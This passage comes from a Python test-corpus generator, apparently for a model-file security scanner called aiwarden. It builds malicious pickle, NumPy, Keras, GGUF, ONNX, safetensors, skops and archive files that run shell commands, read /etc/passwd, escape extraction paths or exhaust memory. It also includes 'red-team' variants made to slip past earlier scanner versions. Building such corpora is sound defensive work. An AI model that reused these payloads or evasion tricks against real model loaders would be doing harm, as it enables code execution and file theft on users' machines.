    return torch_zip(data)


def case_setitems_on_tuple(m: Marker) -> bytes:
    target = mark_tuple(op_int(1), op_int(2))
    return p2(target + MARK + op_int(0) + op_binunicode("a") + op_int(1) + op_binunicode("b") + SETITEMS)


def case_storage_numel_mismatch(m: Marker) -> bytes:
    data = p2(EMPTY_DICT + op_binunicode("w") + tensor_ops(1 << 20) + SETITEM)
    return torch_zip(data, storage=TENSOR_BYTES)


# NumPy


def npy_bytes(array: Any) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


def object_array(m: Marker) -> Any:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0] = "label"
    array[1] = ReduceTo(os.system, (m.shell,))
    return array


def case_npy_object(m: Marker) -> bytes:
    return npy_bytes(object_array(m))


def case_npz_object(m: Marker) -> bytes:
    import numpy as np

    weights = ZipEntry("weights.npy", npy_bytes(np.arange(4, dtype=np.float32)))
    return zip_archive([weights, ZipEntry("meta.npy", npy_bytes(object_array(m)))])


# Keras


def lambda_b64(m: Marker) -> str:
    module = compile(f"lambda x: ({m.python}, x)[1]", "<canary>", "eval", dont_inherit=True)
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def keras_layer(class_name: str, config: dict[str, object], module: str = "keras.layers") -> dict[str, object]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def keras_input() -> dict[str, object]:
    return keras_layer("InputLayer", {"batch_shape": [None, 1], "dtype": "float32", "name": "input_layer"})


def keras_lambda(name: str, function: object, arguments: Mapping[str, object] | None = None) -> dict[str, object]:
    layer = keras_layer(
        "Lambda",
        {"name": name, "trainable": True, "dtype": "float32", "function": function, "arguments": dict(arguments or {})},
    )
    layer["build_config"] = {"input_shape": [None, 1]}
    return layer


def keras_bytecode_function(m: Marker) -> dict[str, object]:
    return {"class_name": "__lambda__", "config": {"code": lambda_b64(m), "defaults": None, "closure": None}}


def keras_function_ref(module: str, name: str) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def keras_sequential(layers: list[dict[str, object]]) -> dict[str, object]:
    config = {"name": "sequential", "trainable": True, "layers": [keras_input(), *layers]}
    return {**keras_layer("Sequential", config, module="keras"), "build_config": {"input_shape": [None, 1]}}


def keras_weights_h5() -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers").create_group("lambda").create_group("vars")
        f.create_group("vars")
    return buf.getvalue()


def keras_archive(config: dict[str, object], compress: int = zipfile.ZIP_STORED) -> bytes:
    metadata = {"keras_version": "3.8.0", "date_saved": "1980-01-01@00:00:00"}
    return zip_archive(
        [
            ZipEntry("metadata.json", canonical_json(metadata), compress),
            ZipEntry("config.json", canonical_json(config), compress),
            ZipEntry("model.weights.h5", keras_weights_h5(), compress),
        ]
    )


def case_keras_lambda(m: Marker) -> bytes:
    return keras_archive(keras_sequential([keras_lambda("lambda", keras_bytecode_function(m))]))


def case_keras_module_os(m: Marker) -> bytes:
    popen = keras_layer("Popen", {"args": ["touch", m.path]}, module="subprocess")
    dense = keras_layer("Dense", {"name": "dense", "units": 1, "activation": keras_function_ref("os", "system")})
    return keras_archive(keras_sequential([dense, popen]))


def case_keras_get_file(m: Marker) -> bytes:
    arguments = {"origin": "file:///dev/null", "cache_dir": str(Path(m.path).parent), "cache_subdir": "."}
    fetch = keras_lambda("fetch", keras_function_ref("keras.utils", "get_file"), arguments)
    fetch["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": Path(m.path).name}}]
    return keras_archive(keras_sequential([fetch]))


def case_keras_unsafe_toggle(m: Marker) -> bytes:
    toggle = keras_lambda(
        "toggle", keras_function_ref("keras.src.backend.common.global_state", "set_global_attribute"), {"value": False}
    )
    toggle["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": "safe_mode_saving"}}]
    payload = keras_lambda("lambda", keras_bytecode_function(m))
    return keras_archive(keras_sequential([toggle, payload]))


def case_keras_enable_unsafe(m: Marker) -> bytes:
    enable = keras_lambda("enable", keras_function_ref("keras.config", "enable_unsafe_deserialization"))
    payload = keras_lambda("lambda", keras_bytecode_function(m))
    return keras_archive(keras_sequential([enable, payload]))


def case_keras_h5_lambda(m: Marker) -> bytes:
    import h5py
    import numpy as np

    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_b64(m), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    inp = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, 1],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "input_1",
        },
    }
    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inp, layer]}}
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["model_config"] = json.dumps(config, sort_keys=True)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"lambda"])
        weights.create_group("lambda").attrs["weight_names"] = np.array([], dtype="S1")
    return buf.getvalue()


# GGUF


def gguf_with_template(template: str) -> bytes:
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "model.gguf"
        writer = gguf.GGUFWriter(str(target), "llama")
        writer.add_name("canary")
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.zeros((2, 4), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return target.read_bytes()


def case_gguf_ssti_subclasses(m: Marker) -> bytes:
    template = (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}"
        f"{{{{ c()._module.__builtins__['open']({m.path!r}, 'w').close() }}}}"
        "{% endif %}{% endfor %}"
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    )
    return gguf_with_template(template)


def case_gguf_ssti_cycler(m: Marker) -> bytes:
    template = (
        f"{{{{ cycler.__init__.__globals__.os.popen({m.shell!r}).read() }}}}"
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    )
    return gguf_with_template(template)


# ONNX (read and write side)


def onnx_external(location: str, *extra: tuple[str, str]) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16"), *extra):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Identity", ["w"], ["y"])
    output = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    graph = helper.make_graph([node], "canary", [], [output], initializer=[weight])
    model = helper.make_model(
        graph, producer_name="aiwarden-corpus", opset_imports=[helper.make_opsetid("", 17)], ir_version=8
    )
    return bytes(onnx.ModelProto.SerializeToString(model, deterministic=True))


def case_onnx_external_traversal(m: Marker) -> bytes:
    return onnx_external("../../etc/passwd")


def case_onnx_external_absolute(m: Marker) -> bytes:
    return onnx_external("/etc/passwd")


def case_onnx_external_attr_injection(m: Marker) -> bytes:
    return onnx_external("passwd", ("basepath", "/etc"), ("__init__", "injected"), ("location_override", "x"))


def case_onnx_symlink_bundle(m: Marker) -> bytes:
    contents = {"model/model.onnx": onnx_external("weights.bin")}
    link = tar_link("model/weights.bin", "/etc/passwd", tarfile.SYMTYPE)
    return tar_archive([tar_file("model/model.onnx"), link], contents)


# safetensors


def safetensors_bytes(header: Mapping[str, object], data: bytes, declared_len: int | None = None) -> bytes:
    raw = json.dumps(header, sort_keys=True, separators=(",", ":")).encode()
    raw += b" " * ((-len(raw)) % 8)
    length = len(raw) if declared_len is None else declared_len
    return struct.pack("<Q", length) + raw + data


def f32_entry(numel: int, start: int, end: int) -> dict[str, object]:
    return {"dtype": "F32", "shape": [numel], "data_offsets": [start, end]}


def case_safetensors_header_len(m: Marker) -> bytes:
    return safetensors_bytes({"w": f32_entry(4, 0, 16)}, TENSOR_BYTES, declared_len=1 << 40)


def case_safetensors_overlap(m: Marker) -> bytes:
    header = {"a": f32_entry(4, 0, 16), "b": f32_entry(4, 8, 24)}
    return safetensors_bytes(header, TENSOR_BYTES + TENSOR_BYTES[:8])


def case_safetensors_out_of_bounds(m: Marker) -> bytes:
    return safetensors_bytes({"w": f32_entry(1 << 18, 0, 1 << 20)}, TENSOR_BYTES)


# Archive structure


def case_zip_slip(m: Marker) -> bytes:
    return zip_archive(
        [ZipEntry("model/config.json", b"{}"), ZipEntry("../../aiwarden-zip-slip.txt", b"canary: zip-slip member\n")]
    )


def case_zip_absolute(m: Marker) -> bytes:
    return zip_archive([ZipEntry("model/config.json", b"{}"), ZipEntry(m.path, b"canary: absolute member\n")])


def case_zip_symlink(m: Marker) -> bytes:
    link = ZipEntry("model/weights.bin", b"/etc/passwd", mode=0o120777)
    return zip_archive([ZipEntry("model/config.json", b"{}"), link])


def case_tar_traversal(m: Marker) -> bytes:
    contents = {"model/config.json": b"{}", "../../aiwarden-tar-slip.txt": b"canary: tar traversal\n"}
    return tar_archive([tar_file(name) for name in contents], contents)


def case_tar_symlink(m: Marker) -> bytes:
    contents = {"model/config.json": b"{}"}
    link = tar_link("model/weights.bin", "/etc/passwd", tarfile.SYMTYPE)
    return tar_archive([tar_file("model/config.json"), link], contents)


def case_tar_hardlink(m: Marker) -> bytes:
    contents = {"model/config.json": b"{}"}
    link = tar_link("model/weights.bin", "/etc/passwd", tarfile.LNKTYPE)
    return tar_archive([tar_file("model/config.json"), link], contents)


def case_zip_bomb(m: Marker) -> bytes:
    chunk, chunks = b"\x00" * (1 << 20), 256
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        info = zipfile.ZipInfo("weights.bin", date_time=ZIP_EPOCH)
        info.compress_type, info.create_system = zipfile.ZIP_DEFLATED, 3
        info.external_attr = 0o100644 << 16
        info.file_size = len(chunk) * chunks
        with archive.open(info, "w") as member:
            for _ in range(chunks):
                member.write(chunk)
    return buf.getvalue()


# skops

SKOPS_STR_TYPE = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}


def _with_ids(node: object, counter: Iterator[int]) -> object:
    """Copy of a skops node tree with ``__id__`` numbered in document order."""
    if isinstance(node, Mapping):
        numbered: dict[str, object] = {}
        if "__loader__" in node:
            numbered["__id__"] = next(counter)
        numbered.update({key: _with_ids(value, counter) for key, value in node.items()})
        return numbered
    if isinstance(node, list):
        return [_with_ids(child, counter) for child in node]
    return node


def skops_schema(content: Mapping[str, Mapping[str, object]]) -> bytes:
    """A skops archive whose top-level DictNode holds ``content``."""
    key_types = {
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": [SKOPS_STR_TYPE for _ in content],
    }
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": key_types,
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    return zip_archive([ZipEntry("schema.json", canonical_json(_with_ids(schema, count(1))))])


def skops_json_str(text: str) -> dict[str, object]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(text),
        "is_json": True,
    }


def skops_function(module: str, name: str) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def case_skops_function_nodes(m: Marker) -> bytes:
    return skops_schema(
        {
            "evaluate": skops_function("builtins", "eval"),
            "run": skops_function("os", "system"),
            "command": skops_json_str(m.shell),
        }
    )


def case_skops_operator_methodcaller(m: Marker) -> bytes:
    attrs = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [skops_json_str("system"), skops_json_str(m.shell)],
    }
    caller = {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": attrs}
    return skops_schema({"scorer": caller})


def case_skops_method_node(m: Marker) -> bytes:
    method = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "MethodNode",
        "content": {"func": "__call__", "obj": skops_function("os", "system")},
    }
    return skops_schema({"callback": method, "command": skops_json_str(m.shell)})


# ---------------------------------------------------------------------------------------------
# aiwarden red-team regressions (bypasses of earlier aiwarden versions)
# ---------------------------------------------------------------------------------------------


def posix_system_p2(marker: Marker) -> bytes:
    """``posix.system(cmd)``: the module name avoids ``os.system`` text matches."""
    return call(op_global("posix", "system"), op_binunicode(marker.shell))


def load_from_bytes(argument: bytes) -> bytes:
    return p2(call(op_global("torch.storage", "_load_from_bytes"), argument))


def case_rt_load_from_bytes_codecs(m: Marker) -> bytes:
    inner = p2(posix_system_p2(m)).decode("latin-1")
    return load_from_bytes(call(op_global("_codecs", "encode"), op_binunicode(inner), op_binunicode("latin1")))


def case_rt_load_from_bytes_bytearray(m: Marker) -> bytes:
    return load_from_bytes(call(op_global("builtins", "bytearray"), op_bytes(p2(posix_system_p2(m)))))


def case_rt_load_from_bytes_zip(m: Marker) -> bytes:
    archive = zip_archive(
        [
            ZipEntry("archive/data.pkl", p2(posix_system_p2(m))),
            ZipEntry("archive/version", b"3\n"),
            ZipEntry("archive/byteorder", b"little"),
        ]
    )
    return load_from_bytes(op_bytes(archive))


def import_dotted(name: str) -> bytes:
    return call(op_global("torch._utils", "_import_dotted_name"), op_binunicode(name))


def case_rt_randomstate_ctor(m: Marker) -> bytes:
    ctor = op_global("numpy.random._pickle", "__randomstate_ctor")
    return p2(call(ctor, op_binunicode(m.shell), import_dotted("posix.system")))


def case_rt_rebuild_from_type(m: Marker) -> bytes:
    rebuild = op_global("torch._tensor", "_rebuild_from_type_v2")
    args = mark_tuple(op_binunicode(m.shell))
    return p2(call(rebuild, import_dotted("posix.system"), op_global("torch", "Tensor"), args, EMPTY_DICT))


def annotated_namespace(m: Marker) -> bytes:
    """``argparse.Namespace`` whose ``__annotations__`` (set by BUILD) holds a string annotation to evaluate."""
    annotations = EMPTY_DICT + op_binunicode("x") + op_binunicode(m.python) + SETITEM
    state = EMPTY_DICT + op_binunicode("__annotations__") + annotations + SETITEM
    return call(op_global("argparse", "Namespace")) + state + BUILD


def case_rt_get_type_hints(m: Marker) -> bytes:
    return p2(call(op_global("typing", "get_type_hints"), annotated_namespace(m)))


def case_rt_generator_ctor_type_hints(m: Marker) -> bytes:
    ctor = op_global("numpy.random._pickle", "__generator_ctor")
    return p2(call(ctor, annotated_namespace(m), op_global("typing", "get_type_hints")))


def case_rt_int_hex_literal(m: Marker) -> bytes:
    return p2(b"I0x10\n" + POP + posix_system_p2(m))


def case_rt_long_unicode_line(m: Marker) -> bytes:
    return p2(b"V" + b"a" * 70_000 + b"\n" + POP + posix_system_p2(m))


def case_rt_long4_2mib(m: Marker) -> bytes:
    size = 1 << 21
    return p2(b"\x8b" + struct.pack("<i", size) + b"\x01" * size + POP + posix_system_p2(m))


def case_rt_stack_2m(m: Marker) -> bytes:
    return p2(NONE * 2_000_001 + posix_system_p2(m))


def joblib_wrapper(count: int, elsize: int | None = None) -> bytes:
    """A ``NumpyArrayWrapper`` announcing ``count`` int8 items; ``elsize`` adds a dtype BUILD state claiming it."""
    dtype = call(op_global("numpy", "dtype"), op_binunicode("i1"), NEWFALSE, NEWTRUE)
    if elsize is not None:
        dtype += encode_value((3, "|", None, None, None, elsize, 1, 0)) + BUILD
    state = (
        EMPTY_DICT
        + MARK
        + op_binunicode("subclass")
        + op_global("numpy", "ndarray")
        + op_binunicode("shape")
        + mark_tuple(op_int(count))
        + op_binunicode("order")
        + op_binunicode("C")
        + op_binunicode("dtype")
        + dtype
        + op_binunicode("allow_mmap")
        + NEWFALSE
        + SETITEMS
    )
    return op_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def case_rt_joblib_wrapper_hidden_ops(m: Marker) -> bytes:
    region = posix_system_p2(m) + POP
    return p2(joblib_wrapper(len(region)) + region)


def case_rt_joblib_elsize_desync(m: Marker) -> bytes:
    """joblib reads ``count`` array bytes (numpy ignores elsize for i1), a reader trusting elsize skips 8x."""
    hidden = posix_system_p2(m) + POP
    count = max(64, -(-(len(hidden) + 6) // 7))
    filler = 8 * count - count - len(hidden) - 5 - 1
    region = b"\x00" * count + hidden + b"B" + struct.pack("<I", filler) + b"\x00" * filler + POP
    assert len(region) == 8 * count
    return p2(joblib_wrapper(count, elsize=8) + region)


def case_rt_npz_lzma(m: Marker) -> bytes:
    import numpy as np

    weights = ZipEntry("weights.npy", npy_bytes(np.arange(4, dtype=np.float32)), zipfile.ZIP_LZMA)
    return zip_archive([weights, ZipEntry("meta.npy", npy_bytes(object_array(m)), zipfile.ZIP_LZMA)])


def computed_name_template(m: Marker) -> str:
    return (
        "{% set u = '_'*2 %}{% set i = u~'init'~u %}{% set gl = u~'globals'~u %}"
        "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
        f"{{{{ cycler[i][gl]['os']['pop'~'en']({m.shell!r}).read() }}}}"
    )


def case_rt_tokenizer_config_ssti(m: Marker) -> bytes:
    return canonical_json({"bos_token": "<s>", "chat_template": computed_name_template(m)})


def case_rt_gguf_ssti(m: Marker) -> bytes:
    return gguf_with_template(computed_name_template(m))


def case_rt_keras_lambda_lzma(m: Marker) -> bytes:
    config = keras_sequential([keras_lambda("lambda", keras_bytecode_function(m))])
    return keras_archive(config, compress=zipfile.ZIP_LZMA)


# ---------------------------------------------------------------------------------------------
# The table
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    slug: str
    build: Callable[[Marker], bytes] = field(repr=False)
    technique: str
    source: str
    min_severity: str


CASES: tuple[Case, ...] = (
    Case("os-system.pkl", case_os_system, "os.system via GLOBAL+REDUCE, protocol 2", SRC_DERIVED, CRITICAL),
    Case("posix-system-p3.pkl", case_posix_system_p3, "posix.system via REDUCE, protocol 3", SRC_GADGETS, CRITICAL),
    Case(
        "proto0-os-system.pkl", case_proto0_os_system, "protocol 0 text pickle, no \\x80 header", SRC_HIDDEN, CRITICAL
    ),
    Case(
        "proto1-subprocess-popen.pkl",
        case_proto1_popen,
        "subprocess.Popen argv list, protocol 1",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case(
        "builtin-exec-p2.pkl",
        case_builtin_exec_p2,
        "__builtin__.exec (fix_imports name), protocol 2",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case(
        "builtins-eval-p4.pkl",
        case_builtins_eval_p4,
        "builtins.eval via STACK_GLOBAL, framed protocol 4",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case(
        "proto5-os-system.pkl",
        case_proto5_os_system,
        "os.system inside dict with BYTEARRAY8, protocol 5",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case("inst-opcode.pkl", case_inst, "INST opcode calling os.system", SRC_DERIVED, CRITICAL),
    Case("obj-opcode.pkl", case_obj, "OBJ opcode calling os.system", SRC_DERIVED, CRITICAL),
    Case(
        "newobj-partial.pkl",
        case_newobj_partial,
        "NEWOBJ functools.partial(os.system) then REDUCE",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case(
        "newobj-ex-partial.pkl",
        case_newobj_ex_partial,
        "NEWOBJ_EX partial with kwargs, protocol 4",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case("timeit.pkl", case_timeit, "timeit.timeit executing a statement", SRC_GADGETS, CRITICAL),
    Case("cprofile-run.pkl", case_cprofile_run, "cProfile.run executing a statement", SRC_GADGETS, CRITICAL),
    Case("profile-run.pkl", case_profile_run, "profile.run executing a statement", SRC_GADGETS, CRITICAL),
    Case("pydoc-pipepager.pkl", case_pydoc_pipepager, "pydoc.pipepager shell command", SRC_GADGETS, CRITICAL),
    Case("uuid-command.pkl", case_uuid_command, "uuid._get_command_stdout runs an executable", SRC_GADGETS, CRITICAL),
    Case("osx-support.pkl", case_osx_support, "_osx_support._read_output shell command", SRC_GADGETS, CRITICAL),
    Case("ensurepip-run-pip.pkl", case_ensurepip, "ensurepip._run_pip code injection", SRC_GADGETS, CRITICAL),
    Case("pip-main.pkl", case_pip_main, "pip.main with attacker argv", SRC_GADGETS, CRITICAL),
    Case(
        "pkgutil-resolve-name.pkl",
        case_pkgutil_resolve,
        "pkgutil.resolve_name('os:system') then call",
        SRC_RESOLVER,
        CRITICAL,
    ),
    Case(
        "numpy-runstring.pkl",
        case_numpy_runstring,
        "numpy.testing._private.utils.runstring exec",
        SRC_GADGETS,
        CRITICAL,
    ),
    Case(
        "torch-collect-env-run.pkl",
        case_torch_collect_env,
        "torch.utils.collect_env.run shell command",
        SRC_LIB_GADGETS,
        CRITICAL,
    ),
    Case(
        "spawnv-passfds.pkl", case_spawnv_passfds, "multiprocessing.util.spawnv_passfds exec", SRC_LIB_GADGETS, CRITICAL
    ),
    Case(
        "importlib-getattr.pkl",
        case_importlib_getattr,
        "importlib.import_module + builtins.getattr chain",
        SRC_RESOLVER,
        CRITICAL,
    ),
    Case(
        "importlib-methodcaller.pkl",
        case_importlib_methodcaller,
        "operator.methodcaller('system') on import_module('os')",
        SRC_RESOLVER,
        CRITICAL,
    ),
    Case(
        "importlib-attrgetter.pkl",
        case_importlib_attrgetter,
        "_operator.attrgetter('system') on import_module('os')",
        SRC_RESOLVER,
        CRITICAL,
    ),
    Case(
        "dunder-import-getattr.pkl",
        case_dunder_import_getattr,
        "builtins.__import__('subprocess') + getattr check_call",
        SRC_RESOLVER,
        CRITICAL,
    ),
    Case(
        "memo-put-memoize-mix.pkl",
        case_memo_put_memoize_mix,
        "MEMOIZE after POP and BINPUT at a high slot; BINGETs feed STACK_GLOBAL",
        SRC_MEMO,
        CRITICAL,
    ),
    Case(
        "memo-overwrite-binget.pkl",
        case_memo_overwrite_binget,
        "memo slots of a benign global overwritten, reused by STACK_GLOBAL",
        SRC_MEMO,
        CRITICAL,
    ),
    Case(
        "stack-global-computed.pkl",
        case_stack_global_computed,
        "STACK_GLOBAL operands computed by codecs.decode rot13 calls",
        SRC_COMPUTED,
        CRITICAL,
    ),
    Case(
        "dotted-torch-os-system.pkl",
        case_dotted_torch_os,
        "STACK_GLOBAL 'torch' 'os.system' (protocol 4)",
        SRC_DOTTED,
        CRITICAL,
    ),
    Case(
        "dotted-pathlib-touch.pkl",
        case_dotted_pathlib_touch,
        "STACK_GLOBAL 'pathlib' 'Path.touch' file write",
        SRC_DOTTED,
        HIGH,
    ),
    Case("io-open.pkl", case_io_open, "_io.open(path, 'w') file creation", SRC_DERIVED, HIGH),
    Case("sqlite3-connect.pkl", case_sqlite3_connect, "sqlite3.connect creates a database file", SRC_DERIVED, HIGH),
    Case("zipfile-write.pkl", case_zipfile_write, "zipfile.ZipFile(path, 'w') file creation", SRC_DERIVED, HIGH),
    Case("logging-filehandler.pkl", case_logging_filehandler, "logging.FileHandler opens a file", SRC_DERIVED, HIGH),
    Case(
        "build-module-dict.pkl",
        case_build_module_dict,
        "BUILD on module collections replaces OrderedDict with os.system",
        SRC_BUILD,
        CRITICAL,
    ),
    Case(
        "build-slotstate-setattr.pkl",
        case_build_slotstate_setattr,
        "BUILD slot-state setattr on torch._utils, then allowlisted name called",
        SRC_BUILD,
        CRITICAL,
    ),
    Case("nested-pickle.pkl", case_nested_pickle, "pickle.loads of an embedded BINBYTES pickle", SRC_NESTED, CRITICAL),
    Case(
        "nested-pickle-base64.pkl",
        case_nested_pickle_base64,
        "_pickle.loads(base64.b64decode(...))",
        SRC_NESTED,
        CRITICAL,
    ),
    Case(
        "marshal-functiontype.pkl",
        case_marshal_function,
        "marshal.loads code + types.FunctionType call",
        SRC_MARSHAL,
        CRITICAL,
    ),
    Case(
        "dill-create-function.pkl",
        case_dill_function,
        "dill._dill._create_code/_create_function then call",
        SRC_MARSHAL,
        CRITICAL,
    ),
    Case(
        "cloudpickle-make-function.pkl",
        case_cloudpickle_function,
        "cloudpickle _builtin_type('CodeType') + _make_function then call",
        SRC_CLOUD,
        CRITICAL,
    ),
    Case(
        "broken-pickle.pkl",
        case_broken_pickle,
        "payload REDUCE then invalid opcode, no STOP (nullifAI)",
        SRC_NULLIFAI,
        CRITICAL,
    ),
    Case(
        "stacked-pickles.pkl", case_stacked_pickles, "benign pickle followed by a malicious one", SRC_LEGACY, CRITICAL
    ),
    Case(
        "expansion-bomb.pkl",
        case_expansion_bomb,
        "memo-reference expansion (billion laughs) pickle",
        SRC_EXPANSION,
        MEDIUM,
    ),
    Case("no-extension", case_no_extension, "payload pickle in a file without extension", SRC_EXTENSION, CRITICAL),
    Case("checkpoint.pth.tar", case_pth_tar, "payload pickle with .pth.tar extension", SRC_EXTENSION, CRITICAL),
    Case(
        "polyglot-pickle-zip.pt",
        case_polyglot_pickle_zip,
        "pickle at offset 0 with a benign torch zip appended",
        SRC_POLYGLOT,
        CRITICAL,
    ),
    Case("pickle.pkl.gz", case_gzip, "gzip-compressed payload pickle", SRC_COMPRESSED, CRITICAL),
    Case("pickle.pkl.bz2", case_bz2, "bz2-compressed payload pickle", SRC_COMPRESSED, CRITICAL),
    Case("pickle.pkl.xz", case_xz, "xz-compressed payload pickle", SRC_COMPRESSED, CRITICAL),
    Case("pickle.pkl.zlib", case_zlib, "zlib-compressed payload pickle", SRC_COMPRESSED, CRITICAL),
    Case(
        "joblib-plain.joblib",
        case_joblib_plain,
        "joblib dump: NumpyArrayWrapper array bytes before payload",
        SRC_JOBLIB,
        CRITICAL,
    ),
    Case(
        "joblib-zlib.joblib",
        case_joblib_zlib,
        "zlib-compressed joblib dump with payload after array",
        SRC_COMPRESSED,
        CRITICAL,
    ),
    Case("torch-zip.pt", case_torch_zip, "torch zip archive, payload in archive/data.pkl", SRC_DERIVED, CRITICAL),
    Case("torch-zip-bad-crc.pt", case_torch_zip_bad_crc, "torch zip with a wrong CRC on data.pkl", SRC_CRC, CRITICAL),
    Case(
        "torch-zip-encrypted-flag.pt",
        case_torch_zip_encrypted_flag,
        "torch zip with the encryption flag bit set on data.pkl",
        SRC_FLAG,
        CRITICAL,
    ),
    Case(
        "torch-zip-corrupt-first.pt",
        case_torch_zip_corrupt_first,
        "corrupt member listed before data.pkl",
        SRC_CORRUPT,
        CRITICAL,
    ),
    Case(
        "torch-zip-hidden-member.pt",
        case_torch_zip_hidden_member,
        "protocol-0 pickle under non-pickle member name archive/payload",
        SRC_HIDDEN,
        CRITICAL,
    ),
    Case(
        "torch-zip-duplicate-datapkl.pt",
        case_torch_zip_duplicate,
        "two archive/data.pkl entries: malicious first, benign last",
        SRC_DERIVED,
        CRITICAL,
    ),
    Case(
        "legacy-magic-payload.pt",
        case_legacy_magic_payload,
        "legacy torch stream, payload in the magic-number pickle",
        SRC_LEGACY,
        CRITICAL,
    ),
    Case(
        "legacy-main-payload.pt",
        case_legacy_main_payload,
        "legacy torch stream, payload in the 4th (main) pickle",
        SRC_LEGACY,
        CRITICAL,
    ),
    Case("legacy-tar.pt", case_legacy_tar, "legacy tar torch container, payload in member 'pickle'", SRC_TAR, CRITICAL),
    Case("torch-7z.pt", case_torch_7z, "7z-compressed torch archive with payload data.pkl", SRC_NULLIFAI, CRITICAL),
    Case(
        "torchscript-code.pt",
        case_torchscript_code,
        "TorchScript zip whose code/__torch__.py calls os.system",
        SRC_DERIVED,
        HIGH,
    ),
    Case(
        "setitem-on-list.pt",
        case_setitem_on_list,
        "torch data.pkl applying SETITEM to a list",
        SRC_WEIGHTS_ONLY,
        MEDIUM,
    ),
    Case("setitems-on-tuple.pkl", case_setitems_on_tuple, "SETITEMS applied to a tuple", SRC_WEIGHTS_ONLY, MEDIUM),
    Case(
        "storage-numel-mismatch.pt",
        case_storage_numel_mismatch,
        "tensor of 2^20 floats backed by a 16-byte storage record",
        SRC_WEIGHTS_ONLY,
        MEDIUM,
    ),
    Case("npy-object-array.npy", case_npy_object, "object .npy whose pickle calls os.system", SRC_NUMPY, CRITICAL),
    Case(
        "npz-object-member.npz",
        case_npz_object,
        ".npz with an object-array member carrying a payload",
        SRC_NUMPY,
        CRITICAL,
    ),
    Case("keras-lambda.keras", case_keras_lambda, "Keras v3 Lambda with base64 marshal bytecode", SRC_LAMBDA, HIGH),
    Case(
        "keras-module-os.keras",
        case_keras_module_os,
        "Keras config layers pointing at subprocess/os",
        SRC_KERAS_MODULE,
        HIGH,
    ),
    Case(
        "keras-get-file.keras", case_keras_get_file, "Keras Lambda calling keras.utils.get_file", SRC_KERAS_GADGET, HIGH
    ),
    Case(
        "keras-safe-mode-toggle.keras",
        case_keras_unsafe_toggle,
        "set_global_attribute('safe_mode_saving', False) then bytecode Lambda",
        SRC_KERAS_GADGET,
        HIGH,
    ),
    Case(
        "keras-enable-unsafe.keras",
        case_keras_enable_unsafe,
        "keras.config.enable_unsafe_deserialization then bytecode Lambda",
        SRC_KERAS_GADGET,
        HIGH,
    ),
    Case(
        "keras-legacy-lambda.h5",
        case_keras_h5_lambda,
        "legacy HDF5 model_config with a bytecode Lambda",
        SRC_KERAS_H5,
        HIGH,
    ),
    Case(
        "gguf-ssti-subclasses.gguf",
        case_gguf_ssti_subclasses,
        "chat_template SSTI via __mro__/__subclasses__",
        SRC_GGUF,
        CRITICAL,
    ),
    Case(
        "gguf-ssti-cycler.gguf",
        case_gguf_ssti_cycler,
        "chat_template SSTI via cycler.__init__.__globals__.os",
        SRC_GGUF,
        CRITICAL,
    ),
    Case(
        "onnx-external-traversal.onnx",
        case_onnx_external_traversal,
        "external_data location ../../etc/passwd",
        SRC_ONNX,
        HIGH,
    ),
    Case("onnx-external-absolute.onnx", case_onnx_external_absolute, "external_data absolute location", SRC_ONNX, HIGH),
    Case(
